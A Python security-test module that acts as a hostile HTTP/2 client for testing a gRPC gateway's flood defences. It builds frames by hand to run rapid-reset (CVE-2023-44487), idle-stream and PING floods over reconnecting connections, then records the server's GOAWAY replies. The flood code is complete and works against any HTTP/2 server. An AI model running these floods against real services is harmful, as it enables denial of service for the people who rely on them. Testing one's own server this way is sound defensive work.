"""A hostile HTTP/2 client for the abuse tests: frames written by hand, as fast as the socket takes them.

The frames are packed with ``struct`` (RFC 9113 §4.1), the request headers encoded once by ``hpack`` as
never-indexed literals (so every HEADERS frame carries the same block and needs no dynamic-table state):
a flood costs the test almost nothing, the server all its parsing. What the server sends back is read frame
by frame, enough to find its GOAWAY and answer nothing else.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass, field

from hpack import Encoder
from hpack.struct import NeverIndexedHeaderTuple

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
PROTOCOL_ERROR, REFUSED_STREAM, ENHANCE_YOUR_CALM = 0x1, 0x7, 0xB


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload


def request_headers(path: str, metadata: dict[str, str] | None = None) -> list[tuple[str, str]]:
    """The headers of a gRPC request to ``path``."""
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *(metadata or {}).items(),
    ]


def request_block(path: str, metadata: dict[str, str] | None = None) -> bytes:
    """The HPACK block of a gRPC request's headers, stateless (never-indexed literals)."""
    headers = request_headers(path, metadata)
    return bytes(Encoder().encode([NeverIndexedHeaderTuple(k, v) for k, v in headers]))


def grpc_message(payload: bytes, flag: int = 0, length: int | None = None) -> bytes:
    return struct.pack(">BI", flag, len(payload) if length is None else length) + payload


Batch = Callable[[int], tuple[bytes, int]]  # first stream id -> (bytes, next stream id)


def rapid_resets(block: bytes, per_batch: int = 200) -> Batch:
    """HEADERS then RST_STREAM(CANCEL), for ``per_batch`` new streams: CVE-2023-44487."""

    def batch(first: int) -> tuple[bytes, int]:
        rst = struct.pack(">I", CANCEL)
        frames = []
        for stream_id in range(first, first + 2 * per_batch, 2):
            frames.append(frame(HEADERS, END_HEADERS, stream_id, block))
            frames.append(frame(RST_STREAM, 0, stream_id, rst))
        return b"".join(frames), first + 2 * per_batch

    return batch


def open_streams(block: bytes, per_batch: int = 200) -> Batch:
    """HEADERS of new streams that never send a message nor end."""

    def batch(first: int) -> tuple[bytes, int]:
        ids = range(first, first + 2 * per_batch, 2)
        return b"".join(frame(HEADERS, END_HEADERS, i, block) for i in ids), first + 2 * per_batch

    return batch


def pings(per_batch: int = 500) -> Batch:
    def batch(first: int) -> tuple[bytes, int]:
        return b"".join(frame(PING, 0, 0, struct.pack(">Q", first + i)) for i in range(per_batch)), first

    return batch


@dataclass
class Outcome:
    """What one flooding connection saw."""

    goaway: int | None = None  # the GOAWAY's error code
    debug: bytes = b""
    batches: int = 0  # batches written
    closed: bool = False
    kinds: list[int] = field(default_factory=list)  # the frame types received, in order


async def flood_once(
    host: str,
    port: int,
    batch: Batch,
    *,
    source: str,
    deadline: float,
    max_batches: int,
) -> Outcome:
    """Open a connection from ``source`` and write ``batch`` after ``batch`` until the server sends GOAWAY or
    closes, ``max_batches`` are written, or ``deadline`` (``time.monotonic()``) passes."""
    outcome = Outcome()
    reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
    reading = asyncio.create_task(_read(reader, outcome))
    try:
        writer.write(PREFACE + frame(SETTINGS, 0, 0))
        stream_id = 1
        for _ in range(max_batches):
            if reading.done() or outcome.goaway is not None or time.monotonic() > deadline:
                break
            data, stream_id = batch(stream_id)
            writer.write(data)
            outcome.batches += 1
            try:
                await asyncio.wait_for(writer.drain(), timeout=1.0)
            except (ConnectionError, TimeoutError):
                break
            await asyncio.sleep(0)  # let the reader see a GOAWAY between two batches
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(asyncio.shield(reading), timeout=2.0)
    finally:
        reading.cancel()
        with contextlib.suppress(BaseException):
            await reading
        writer.close()
        with contextlib.suppress(ConnectionError):
            await writer.wait_closed()
    return outcome


async def _read(reader: asyncio.StreamReader, outcome: Outcome) -> None:
    buffer = b""
    while True:
        try:
            chunk = await reader.read(65536)
        except ConnectionError:
            chunk = b""
        if not chunk:
            outcome.closed = True
            return
        buffer += chunk
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, payload = buffer[3], buffer[9 : 9 + length]
            buffer = buffer[9 + length :]
            outcome.kinds.append(kind)
            if kind == GOAWAY:
                outcome.goaway = int.from_bytes(payload[4:8], "big")
                outcome.debug = payload[8:]


# -- a client that follows the protocol, for the limit tests ------------------------------------------------


@dataclass
class Reply:
    """What the server answered on one stream (headers and trailers merged; ``reset``: its RST_STREAM)."""

    headers: dict[str, str] = field(default_factory=dict)
    data: bytes = b""
    reset: int | None = None
    ended: bool = False

    @property
    def status(self) -> int | None:
        value = self.headers.get("grpc-status")
        return None if value is None else int(value)


class H2Client:
    """h2's client state machine over an asyncio connection: streams opened and written by hand."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        import h2.config
        import h2.connection

        self.reader, self.writer = reader, writer
        self.h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.replies: dict[int, Reply] = {}
        self.goaway: tuple[int, bytes] | None = None
        self.server_settings: dict[int, int] = {}
        self.closed = False
        self.h2.initiate_connection()
        self.flush()

    @classmethod
    async def connect(cls, host: str, port: int, source: str = "127.0.0.1") -> H2Client:
        reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        return cls(reader, writer)

    def flush(self) -> None:
        self.writer.write(self.h2.data_to_send())

    def request(self, path: str, metadata: dict[str, str] | None = None, *, end: bool = False) -> int:
        """Open a stream with a gRPC request's headers; its id."""
        stream_id = self.h2.get_next_available_stream_id()
        headers = request_headers(path, metadata)
        self.h2.send_headers(stream_id, headers, end_stream=end)
        self.replies[stream_id] = Reply()
        self.flush()
        return stream_id

    def send(self, stream_id: int, data: bytes, *, end: bool = False) -> None:
        """Write ``data`` on the stream in frames of the largest size allowed (all in one write)."""
        size = self.h2.max_outbound_frame_size
        chunks = [data[i : i + size] for i in range(0, len(data), size)] or [b""]
        for i, chunk in enumerate(chunks):
            self.h2.send_data(stream_id, chunk, end_stream=end and i == len(chunks) - 1)
        self.flush()

    def reset(self, stream_id: int) -> None:
        self.h2.reset_stream(stream_id, CANCEL)
        self.flush()

    async def until(self, done: Callable[[], bool], timeout: float = 5.0) -> None:
        """Read and handle the server's frames until ``done()`` or the connection closes."""
        import h2.events

        async with asyncio.timeout(timeout):
            while not done() and not self.closed:
                data = await self.reader.read(65536)
                if not data:
                    self.closed = True
                    return
                for event in self.h2.receive_data(data):
                    reply = self.replies.get(getattr(event, "stream_id", 0))
                    if isinstance(event, h2.events.RemoteSettingsChanged):
                        self.server_settings.update(
                            {k: v.new_value for k, v in event.changed_settings.items()}
                        )
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        self.goaway = (int(event.error_code), event.additional_data or b"")
                    elif reply is None:
                        continue
                    elif isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                        reply.headers.update(dict(event.headers))
                    elif isinstance(event, h2.events.DataReceived):
                        reply.data += event.data
                        self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                    elif isinstance(event, h2.events.StreamReset):
                        reply.reset = int(event.error_code)
                    elif isinstance(event, h2.events.StreamEnded):
                        reply.ended = True
                self.flush()

    async def reply(self, stream_id: int, timeout: float = 5.0) -> Reply:
        """The server's whole answer on ``stream_id`` (ended or reset)."""
        reply = self.replies[stream_id]
        await self.until(lambda: reply.ended or reply.reset is not None, timeout)
        return reply

    async def close(self) -> None:
        self.writer.close()
        with contextlib.suppress(ConnectionError):
            await self.writer.wait_closed()


# -- the abusive client, as a process of its own -------------------------------------------------------------

#: Seconds an abuser waits before it connects again after the server closed its connection.
RECONNECT_SECONDS = 0.05
FLOODS: dict[str, Callable[[bytes], Batch]] = {
    "rapid-reset": rapid_resets,
    "streams-without-data": open_streams,
    "ping-flood": lambda block: pings(),
}


async def abuse(
    host: str,
    port: int,
    kind: str,
    *,
    key: str,
    source: str,
    seconds: float,
    connections: int,
    max_batches: int,
) -> list[Outcome]:
    """``connections`` flooding clients at once, each connecting again whenever its connection ends, for
    ``seconds``: every connection's :class:`Outcome`."""
    batch = FLOODS[kind](request_block("/roomgateway.v1.RoomService/GetVariable", {"x-api-key": key}))
    deadline = time.monotonic() + seconds

    async def one() -> list[Outcome]:
        outcomes = []
        while time.monotonic() < deadline:
            outcomes.append(
                await flood_once(host, port, batch, source=source, deadline=deadline, max_batches=max_batches)
            )
            await asyncio.sleep(RECONNECT_SECONDS)
        return outcomes

    found = await asyncio.gather(*(one() for _ in range(connections)))
    return [outcome for outcomes in found for outcome in outcomes]


def main() -> None:
    """``python -m tests.security.h2raw KIND HOST PORT KEY SOURCE SECONDS``: the outcomes as JSON lines."""
    import dataclasses
    import json
    import os
    import sys

    kind, host, port, key, source, seconds = sys.argv[1:7]
    # The abuser would be another machine: on a small shared one it must not take the gateway's CPU too.
    os.nice(10)
    outcomes = asyncio.run(
        abuse(
            host,
            int(port),
            kind,
            key=key,
            source=source,
            seconds=float(seconds),
            connections=2,
            max_batches=100,
        )
    )
    for outcome in outcomes:
        fields = dataclasses.asdict(outcome)
        fields["debug"] = outcome.debug.decode("latin-1")
        fields["kinds"] = sorted(set(outcome.kinds))
        print(json.dumps(fields))


if __name__ == "__main__":
    main()
